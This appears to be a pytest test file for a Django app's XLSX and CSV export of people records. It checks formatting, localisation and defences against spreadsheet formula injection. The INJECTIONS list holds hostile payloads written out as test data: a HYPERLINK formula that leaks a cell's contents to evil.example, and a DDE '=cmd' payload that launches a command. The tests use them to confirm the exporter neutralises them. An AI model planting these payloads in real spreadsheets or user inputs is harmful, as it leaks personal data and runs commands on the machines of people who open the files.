"""People exports: read back with openpyxl and csv; no formulas; text stays text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.utils import translation

from swabline.people import exports
from swabline.people.enums import Sex
from swabline.people.models import Person
from swabline.places.enums import Level
from swabline.places.models import Place
from tests.factories import PersonFactory, make_place

pytestmark = pytest.mark.django_db

ENGLISH_HEADERS = [
    "Full name",
    "Date of birth",
    "Year of birth",
    "Sex",
    "Phone number",
    "CCCD",
    "Ward",
    "Address",
    "Household code",
    "Personal code",
]
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def ward() -> Place:
    province = make_place("Tỉnh Tây Ninh", level=Level.PROVINCE)
    return make_place("Phường Tân Ninh", parent=province)


@pytest.fixture
def sample(ward: Place) -> list[Person]:
    return [
        PersonFactory.create(
            ward=ward,
            full_name="Nguyễn Thị Bích Ngọc",
            birth_date=dt.date(1961, 8, 15),
            sex=Sex.FEMALE,
            phone="+84912345678",
            national_id="001161012345",
            address="12 Lê Lợi, Khu phố 3",
            household_key="h-abc",
        ),
        PersonFactory.create(
            ward=ward,
            full_name="Trần Văn Đức",
            birth_date=None,
            birth_year=1975,
            sex=Sex.MALE,
            phone="",
            national_id=None,
            address="",
            household_key="",
        ),
    ]


def xlsx_bytes(queryset: Any) -> bytes:
    stream = io.BytesIO()
    with translation.override("en"):
        exports.export_people_xlsx(queryset, stream)
    return stream.getvalue()


def csv_text(queryset: Any) -> str:
    stream = io.StringIO(newline="")
    with translation.override("en"):
        exports.export_people_csv(queryset, stream)
    return stream.getvalue()


def test_xlsx_round_trip(sample: list[Person]) -> None:
    data = xlsx_bytes(Person.objects.all())
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ENGLISH_HEADERS
    assert all(c.font.b for c in rows[0])
    assert sheet.freeze_panes == "A2"
    first = dict(zip(ENGLISH_HEADERS, rows[1], strict=True))
    assert first["Full name"].value == "Nguyễn Thị Bích Ngọc"
    assert first["Date of birth"].value == dt.datetime(1961, 8, 15)  # noqa: DTZ001 (a real date)
    assert first["Date of birth"].number_format == "DD/MM/YYYY"
    assert first["Year of birth"].value == 1961 and first["Year of birth"].data_type == "n"
    assert first["Sex"].value == "Female"
    assert first["Phone number"].value == "0912 345 678"
    assert first["Phone number"].number_format == "@"
    assert first["CCCD"].value == "001161012345"  # the leading zero kept
    assert first["CCCD"].data_type == "s" and first["CCCD"].number_format == "@"
    assert first["Ward"].value == "Phường Tân Ninh"
    assert first["Address"].value == "12 Lê Lợi, Khu phố 3"
    assert first["Household code"].value == "h-abc"
    assert first["Personal code"].value == sample[0].display_code
    second = [c.value for c in rows[2]]
    assert second[:5] == ["Trần Văn Đức", None, 1975, "Male", None]
    assert second[5] is None


def test_csv_round_trip(sample: list[Person]) -> None:
    text = csv_text(Person.objects.all())
    assert text.startswith("\ufeff")
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")  # what Excel looks for
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[0] == ENGLISH_HEADERS
    assert rows[1] == [
        "Nguyễn Thị Bích Ngọc",
        "15/08/1961",
        "1961",
        "Female",
        "0912 345 678",
        "001161012345",
        "Phường Tân Ninh",
        "12 Lê Lợi, Khu phố 3",
        "h-abc",
        sample[0].display_code,
    ]
    assert rows[2][:6] == ["Trần Văn Đức", "", "1975", "Male", "", ""]
    assert '"12 Lê Lợi, Khu phố 3"' in text  # a comma inside a field is quoted
    assert ";" not in text.splitlines()[0]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_formula_injection_is_neutralised(ward: Place, payload: str) -> None:
    PersonFactory.create(ward=ward, full_name=payload, address=payload, household_key="+84 0")
    queryset = Person.objects.all()

    data = xlsx_bytes(queryset)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    row = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    for cell in (row[0], row[7], row[8]):
        assert cell.data_type == "s"
        assert cell.quotePrefix
    expected = payload.replace("\r", "\n")  # XML reads a raw CR back as LF; still a string
    assert row[0].value == expected and row[7].value == expected
    assert row[8].value == "+84 0"

    rows = list(csv.reader(io.StringIO(csv_text(queryset)[1:], newline="")))
    assert rows[1][0] == "'" + payload
    assert rows[1][7] == "'" + payload
    assert rows[1][8] == "'+84 0"


@pytest.mark.parametrize(
    ("value", "dangerous"),
    [
        ("=1", True),
        ("+1", True),
        ("-1", True),
        ("@x", True),
        ("\tx", True),
        ("\rx", True),
        ("1=1", False),
        ("a-b", False),
        (" =1", False),
        ("", False),
        ("Nguyễn", False),
    ],
)
def test_neutralise(value: str, dangerous: bool) -> None:
    assert exports.is_dangerous(value) is dangerous
    assert exports.neutralise_csv(value) == ("'" + value if dangerous else value)


@pytest.mark.parametrize(
    ("phone", "shown"),
    [
        ("+84912345678", "0912 345 678"),
        ("+84321234567", "0321 234 567"),
        ("", ""),
        ("0912345678", "0912345678"),  # not E.164: left alone
    ],
)
def test_display_phone(phone: str, shown: str) -> None:
    assert exports.display_phone(phone) == shown


def test_many_rows_cost_one_query(ward: Place, django_assert_max_num_queries: Any) -> None:
    # More than one chunk of the iterator, written without a query per row.
    people = [
        PersonFactory.build(
            ward=ward,
            province_code=ward.province_code,
            national_id=f"0791{i % 100:02d}{i:06d}",
            phone=f"+8490{i:07d}",
        )
        for i in range(exports.CHUNK_SIZE + 150)
    ]
    Person.objects.bulk_create(people)
    queryset = Person.objects.filter(ward=ward)
    with django_assert_max_num_queries(1):
        count = exports.export_people_csv(queryset, io.StringIO())
    assert count == exports.CHUNK_SIZE + 150
    stream = io.BytesIO()
    with django_assert_max_num_queries(1):
        assert exports.export_people_xlsx(queryset, stream) == count
    sheet = openpyxl.load_workbook(io.BytesIO(stream.getvalue()), read_only=True).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(values) == count
    assert all(isinstance(v[5], str) and len(v[5]) == 12 and v[5][0] == "0" for v in values)


def test_headers_follow_the_language(sample: list[Person]) -> None:
    stream = io.StringIO()
    with translation.override("vi"):
        exports.export_people_csv(Person.objects.all(), stream)
    header = next(csv.reader(io.StringIO(stream.getvalue()[1:])))
    assert len(header) == 10
    with translation.override("vi"):
        assert header == [str(h) for h in exports.HEADERS]


def test_streams_into_an_http_response(sample: list[Person]) -> None:
    from django.http import HttpResponse

    response = HttpResponse(content_type="text/csv; charset=utf-8")
    exports.export_people_csv(Person.objects.all(), response)
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert "Nguyễn Thị Bích Ngọc" in response.content.decode("utf-8-sig")

    response = HttpResponse()
    exports.export_people_xlsx(Person.objects.all(), response)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None and sheet["A2"].value == "Nguyễn Thị Bích Ngọc"
